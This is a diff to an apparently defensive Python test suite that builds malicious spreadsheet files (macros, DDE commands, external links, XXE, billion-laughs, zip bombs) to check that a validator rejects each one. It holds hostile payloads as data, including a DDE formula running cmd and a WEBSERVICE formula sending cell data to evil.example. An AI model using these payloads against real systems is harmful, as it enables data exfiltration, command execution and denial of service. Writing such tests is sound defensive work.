@@ -71,6 +71,10 @@ def formula(text: str, saved: str = "1") -> Callable[[Path], None]:
     return put_in(SHEET, cell, b"</sheetData>")
 
 
+def relation(kind: bytes, target: bytes) -> Callable[[Path], None]:
+    return put_in("xl/_rels/workbook.xml.rels", RELATION % (kind, target), b"</Relationships>")
+
+
 def doctype(part: str, text: bytes) -> Callable[[Path], None]:
     def change(path: Path) -> None:
         rezipped(path, lambda name, c: text + c.partition(b"?>")[2] or text + c if name == part else c)
@@ -156,14 +160,15 @@ def no_mark(path: Path) -> None:
 
 def two_marks(path: Path) -> None:
     book = openpyxl.load_workbook(path)
-    other = next(
-        c.value for row in openpyxl.load_workbook(next((path.parents[1] / "K-2").glob("*.xlsx"))).worksheets[0].iter_rows()
-        for c in row if str(c.value).startswith("ar-sheets copy")
-    )  # fmt: skip
+    theirs = openpyxl.load_workbook(next((path.parents[1] / "K-2").glob("*.xlsx"))).worksheets[0]
+    cells = (cell.value for row in theirs.iter_rows() for cell in row)
+    other = next(value for value in cells if str(value).startswith("ar-sheets copy"))
     book.worksheets[0]["H40"] = other
     book.save(path)
 
 
+MACRO_TYPE = b'<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+FAR_OUT = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
 LAUGHS = b'<!DOCTYPE l [<!ENTITY a "' + b"x" * 1000 + b'"><!ENTITY b "' + b"&a;" * 1000 + b'">]>'
 MACROS, LINK, OBJECT, DATA, DTD = (
     "It holds macros", "It holds a link to another file or program", "It holds an embedded object",
@@ -171,22 +176,23 @@ MACROS, LINK, OBJECT, DATA, DTD = (
 )  # fmt: skip
 ATTACKS = {
     "macros": (added("xl/vbaProject.bin"), MACROS),
-    "macros under another name": (put_in("[Content_Types].xml", b'<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>', b"</Types>"), MACROS),
+    "macros under another name": (put_in("[Content_Types].xml", MACRO_TYPE, b"</Types>"), MACROS),
     "a macro sheet": (added("xl/macrosheets/sheet1.xml", b"<x/>"), MACROS),
     "an external link": (added("xl/externalLinks/externalLink1.xml", b"<x/>"), LINK),
     "DDE in a link": (added("xl/externalLinks/ddeLink1.xml", b"<ddeLink/>"), LINK),
     "DDE in a formula": (formula("cmd|'/c calc'!A0"), LINK),
     "another file in a formula": (formula("'[1]Sheet1'!A1"), LINK),
     "a formula that fetches": (formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), LINK),
-    "a picture from outside": (put_in("xl/_rels/workbook.xml.rels", RELATION % (b"image", b"https://evil.example/x.png"), b"</Relationships>"), LINK),
+    "a picture from outside": (relation(b"image", b"https://evil.example/x.png"), LINK),
     "an embedded object": (added("xl/embeddings/oleObject1.bin"), OBJECT),
-    "an object by its relation": (put_in("xl/_rels/workbook.xml.rels", RELATION % (b"oleObject", b"x.bin"), b"</Relationships>"), OBJECT),
+    "an object by its relation": (relation(b"oleObject", b"x.bin"), OBJECT),
     "a control": (added("xl/activeX/activeX1.xml", b"<x/>"), OBJECT),
     "a data connection": (added("xl/connections.xml", b"<connections/>"), DATA),
     "XXE": (doctype(SHEET, b'<!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.example/x">]>'), DTD),
     "a billion laughs": (doctype(SHEET, LAUGHS), DTD),
     "a DTD in UTF-16": (in_utf16, DTD),
-    "a cell far out": (put_in(SHEET, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', b"</sheetData>"), "holds something in the cell XFD1048576, far outside the list"),
+    "a cell far out": (put_in(SHEET, FAR_OUT, b"</sheetData>"),
+                       "holds something in the cell XFD1048576, far outside the list"),
     "a zip bomb": (added("xl/media/image9.png", bytes(150_000_000)), "would take 150 MB unpacked"),
     "a zip bomb that lies": (lying_about_its_size, "does not match its checksum"),
     "a part that claims four gigabytes": (claiming_four_gigabytes, "would take 4,000 MB unpacked"),
